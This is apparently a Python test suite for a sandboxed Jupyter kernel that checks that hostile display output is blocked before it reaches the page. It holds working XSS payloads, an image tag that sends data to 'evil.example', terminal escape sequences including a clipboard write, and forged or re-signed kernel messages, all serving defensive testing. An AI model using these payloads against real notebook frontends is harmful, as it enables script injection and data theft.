"""Acting in the page, or being believed: whatever is shown stays still and is its own."""

import json
import re

import lxml.html

from escapes.case import Group

GROUP = Group("relay to the page")

PLOTLY = "application/vnd.plotly.v1+json"
ALLOWED = {
    *("text/plain", "text/html", "image/png", "image/jpeg"),
    *(PLOTLY, "application/vnd.jupyter-analyst.table+json"),
    *("application/vnd.jupyter-analyst.result+json", "application/vnd.jupyter-analyst.chart+json"),
}
LOADS = re.compile(r"<(?!/?(?:b|br|i|em|strong|sub|sup)>)|https?://|javascript:", re.IGNORECASE)
"""What no text of a chart may hold, in which the page takes some markup for markup."""

TAGS = set("a audio base button embed form iframe image img input link math meta object".split())
TAGS |= {"script", "svg", "use", "video"}
LEADS = {"action", "formaction", "href", "src", "srcdoc", "xlink:href"}


def acting(html):
    """Return what would act or load in HTML; our own style sheet is still."""
    found = []
    for element in lxml.html.fromstring(f"<div>{html}</div>").iter():
        styles = f"{element.get('style', '')} {element.text if element.tag == 'style' else ''}"
        found += [element.tag] if element.tag in TAGS else []
        found += [name for name in element.attrib if name.startswith("on") or name in LEADS]
        found += re.findall(r"url\(|@import|expression", styles)
    return found


def page(scene):
    """Return what a page shows of the run, or what would act in it."""
    for output in scene.ran.outputs:
        bundle = output.get("data", {})
        if bundle.keys() - ALLOWED:
            return f"ESCAPED: {sorted(bundle.keys() - ALLOWED)}"
        found = acting(bundle.get("text/html", "<p>"))
        found += LOADS.findall(json.dumps(bundle.get(PLOTLY)))
        if found:
            return f"ESCAPED: {found}"
    text = "".join(scene.ran.text.split("\n"))
    return f"blocked: {text}" if scene.ran.status == "ok" else f"blocked: {scene.ran.fault}"


def kinds(scene):
    """Return the kinds of displays that are shown."""
    shown = {name for output in scene.ran.outputs for name in output.get("data", {})}
    return f"works: {', '.join(sorted(shown))}"


def next_text(scene):
    """Return what the next run shows, in which nothing of this one may appear."""
    found = scene.box.run("import time; time.sleep(0.6); print('real')")
    return f"blocked: {found.text}" if found.status == "ok" else f"ESCAPED: {found}"


def told(scene):
    """Return what the host shows of the run, which is to be nothing but what was printed."""
    found = [output for output in scene.ran.outputs if output["output_type"] != "stream"]
    if found or scene.ran.status != "ok":
        return f"ESCAPED: {scene.ran}"
    return f"blocked: {scene.ran.text}"


def _page(branch, by):
    return GROUP.blocked(branch, by, whole=True, then=page)


@GROUP.works(
    "frame",
    "application/vnd.jupyter-analyst.table+json, text/html, text/plain",
    whole=True,
    then=kinds,
)
def a_frame_is_shown(host):
    import pandas as pd
    from IPython.display import display

    display(pd.DataFrame({"a": [1]}))


@GROUP.works("picture", "image/png, text/plain", whole=True, then=kinds)
def a_figure_is_shown(host):
    import matplotlib.pyplot as plt

    plt.plot([1, 2])
    plt.show()


@_page("script", "Not shown: text/html, script.")
def html_holds_a_script(host):
    from IPython.display import HTML, display

    display(HTML("<script>alert(1)</script>"))


@_page("img", "Not shown: text/html, img.")
def html_loads_a_picture_from_elsewhere(host):
    """The way by which data leave: they stand in the address."""
    from IPython.display import HTML, display

    display(HTML("<img src='https://evil.example/?data'>"))


@_page("link", "wordsNot shown: text/html, links.")
def html_asks_to_be_clicked(host):
    from IPython.display import display

    display({"text/html": "<a href='https://evil.example'></a>", "text/plain": "words"}, raw=True)


@_page("handler", "Not shown: text/html, onload, svg.")
def html_acts_when_it_cannot_be_loaded(host):
    from IPython.display import HTML, display

    display(HTML("<svg onload=alert(1)></svg>"))


@_page("style", "Not shown: text/html.")
def html_restyles_the_page(host):
    from IPython.display import HTML, display

    display(HTML("<style>@import url(https://evil.example); body { display: none }</style>"))


@_page("bomb", "Not shown: text/html.")
def html_nests_so_deep_that_it_takes_for_ever(host):
    from IPython.display import HTML, display

    display(HTML("<div>" * 90_000))


@_page("javascript", "Not shown: application/javascript.")
def a_program_for_the_page_is_displayed(host):
    from IPython.display import Javascript, display

    display(Javascript("alert(1)"))


@_page("svg", ("Not shown: image/svg+xml.", ""))
def a_drawing_holds_a_program(host):
    from IPython.display import display

    display({"image/svg+xml": "<svg onload='alert(1)'></svg>"}, raw=True)


@_page("widget", "Not shown: application/vnd.jupyter.widget-view+json.")
def a_widget_of_the_host_is_shown_anew(host):
    from IPython.display import display

    display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}, raw=True)


@_page("bokeh", "Not shown: application/vnd.bokehjs_exec.v0+json.")
def a_kind_that_a_library_of_the_page_runs(host):
    from IPython.display import display

    display({"application/vnd.bokehjs_exec.v0+json": "alert(1)"}, raw=True)


@_page("pdf", "Not shown: application/pdf.")
def a_document_the_browser_opens(host):
    from IPython.display import display

    display({"application/pdf": "JVBERi0="}, raw=True)


@_page("mimetype", "Not shown: <b onclick=alert(1)>.")
def the_name_of_a_kind_is_markup(host):
    """It is told as text, which no page takes for markup."""
    from IPython.display import display

    display({"<b onclick=alert(1)>": "x"}, raw=True)


@_page("markdown", "<script>1</script> ![](https://evil.example)")
def markdown_holds_markup_and_pictures(host):
    from IPython.display import display

    text = "<script>1</script> ![](https://evil.example)"
    display({"text/markdown": text}, raw=True)


@_page("latex", r"$\href{javascript:alert(1)}{x}$")
def a_formula_is_a_link(host):
    from IPython.display import display

    display({"text/latex": r"$\href{javascript:alert(1)}{x}$"}, raw=True)


@_page("png", "Not shown: image/png.")
def a_picture_is_none(host):
    import base64

    from IPython.display import display

    display({"image/png": base64.b64encode(b"<svg onload=alert(1)>").decode()}, raw=True)


@_page("pixels", "Not shown: image/png.")
def a_picture_of_few_bytes_has_billions_of_points(host):
    import base64
    import struct

    from IPython.display import display

    head = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 60_000, 60_000)
    display({"image/png": base64.b64encode(head + bytes(9)).decode()}, raw=True)


@_page("plotly", "Plotly chart")
def a_chart_loads_a_picture_and_links(host):
    from IPython.display import display

    figure = {
        "data": [{"type": "bar", "y": [1], "text": ["<a href='https://evil.example'>x</a>"]}],
        "layout": {"images": [{"source": "https://evil.example"}]},
    }
    display({"application/vnd.plotly.v1+json": figure}, raw=True)


@_page("result", "Not shown: application/vnd.jupyter-analyst.result+json.")
def a_result_of_a_tool_is_forged(host):
    from IPython.display import display

    display({"application/vnd.jupyter-analyst.result+json": {"title": "<script>"}}, raw=True)


@_page("chart", "Not shown: application/vnd.jupyter-analyst.chart+json.")
def a_chart_of_ours_is_forged(host):
    from IPython.display import display

    display({"application/vnd.jupyter-analyst.chart+json": {"svg": "<script>"}}, raw=True)


@_page("table", "words")
def a_cell_of_a_table_is_markup(host):
    from IPython.display import display

    cell = "<img src=x onerror=alert(1)>"
    table = {"columns": [cell], "rows": [[cell]], "n_rows": 1, "n_columns": 1}
    kind = "application/vnd.jupyter-analyst.table+json"
    display({kind: table, "text/plain": "words"}, raw=True)


@_page("metadata", "words")
def what_is_said_about_a_display_asks_for_more(host):
    from IPython.display import display

    told = {"isolated": True, "text/html": {"isolated": True}, "trusted": True}
    display({"text/plain": "words"}, raw=True, metadata=told)


@_page("terminal", "red words")
def text_gives_orders_to_a_terminal(host):
    print("\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07\x1b]8;;https://evil.example\x07red words\x1b[2J")


@_page("error", "EvilError: words.")
def an_error_gives_orders_to_a_terminal(host):
    class EvilError(Exception):
        pass

    raise EvilError("\x1b]0;title\x07words")


@_page("surrogate", "a\N{REPLACEMENT CHARACTER}b")
def text_holds_half_a_character(host):
    kernel = get_ipython().kernel
    content = b'{"data": {"text/plain": "a\\ud800b"}}'
    message = kernel.session.msg("display_data", content, parent=kernel.get_parent("shell"))
    kernel.iopub_socket.send_multipart(kernel.session.serialize(message))


@_page("next cell", "Not shown: set_next_input.")
def code_is_written_into_the_next_cell(host):
    get_ipython().set_next_input("import os")


@_page("pager", "Not shown: page.")
def a_text_is_put_over_the_page(host):
    get_ipython().payload_manager.write_payload(
        {"source": "page", "data": {"text/html": "<script>1</script>"}, "start": 0}
    )


@_page("input", "StdinNotImplementedError: getpass was called, but this frontend does not support "
       "input requests. Code in the sandbox cannot ask for input.")  # fmt: skip
def the_user_is_asked_for_a_password(host):
    import getpass

    getpass.getpass()


# messages


@GROUP.blocked("idle", "real", whole=True, then=next_text)
def the_end_of_a_run_is_forged(host):
    kernel = get_ipython().kernel
    message = kernel.session.msg(
        "status", {"execution_state": "idle"}, parent=kernel.get_parent("shell")
    )
    kernel.iopub_socket.send_multipart(kernel.session.serialize(message))


@GROUP.blocked("parent", "real", whole=True, then=told)
def a_message_says_it_belongs_to_another_run(host):
    kernel = get_ipython().kernel
    message = kernel.session.msg(
        "stream", {"name": "stdout", "text": "forged"}, parent={"msg_id": "another"}
    )
    kernel.iopub_socket.send_multipart(kernel.session.serialize(message))
    print("real")


@GROUP.blocked("signature", "real", whole=True, then=told)
def a_message_is_signed_with_another_key(host):
    kernel = get_ipython().kernel
    key, kernel.session.key = kernel.session.key, b"another"
    message = kernel.session.msg(
        "stream", {"name": "stdout", "text": "forged"}, parent=kernel.get_parent("shell")
    )
    kernel.iopub_socket.send_multipart(kernel.session.serialize(message))
    kernel.session.key = key
    print("real")


@GROUP.blocked("shape", "real", whole=True, then=told)
def messages_have_shapes_nobody_expects(host):
    kernel = get_ipython().kernel
    mine = kernel.get_parent("shell")
    contents = [b"5", b"[" * 100_000, {"name": [], "text": {}}, b"\xff", b'{"text": 1e999}']
    for content in contents:
        message = kernel.session.msg("stream", content, parent=mine)
        kernel.iopub_socket.send_multipart(kernel.session.serialize(message))
    print("real")


@GROUP.blocked("frames", "real", whole=True, then=told)
def what_is_sent_is_no_message(host):
    socket = get_ipython().kernel.iopub_socket
    for frames in ([b"junk"], [b"<IDS|MSG>", b"sig", *[b"{"] * 4], [b"<IDS|MSG>"]):
        socket.send_multipart(frames)
    print("real")


@GROUP.blocked("comm", "real", whole=True, then=told)
def a_channel_to_a_panel_of_the_host_is_opened(host):
    kernel = get_ipython().kernel
    mine = kernel.get_parent("shell")
    for kind in ("comm_open", "comm_msg"):
        content = {"comm_id": "x", "target_name": "jupyter_analyst", "data": {"state": {}}}
        message = kernel.session.msg(kind, content, parent=mine)
        kernel.iopub_socket.send_multipart(kernel.session.serialize(message))
    print("real")


@GROUP.blocked("update", "real", whole=True, then=told)
def a_display_of_the_host_is_replaced(host):
    from IPython.display import display

    display({"text/plain": "forged"}, raw=True, display_id="of-the-host", update=True)
    print("real")


@GROUP.blocked("clear", "", whole=True, then=page)
def what_was_shown_before_is_cleared(host):
    """It clears its own output; that of the host stands elsewhere."""
    from IPython.display import clear_output

    print("shown")
    clear_output()
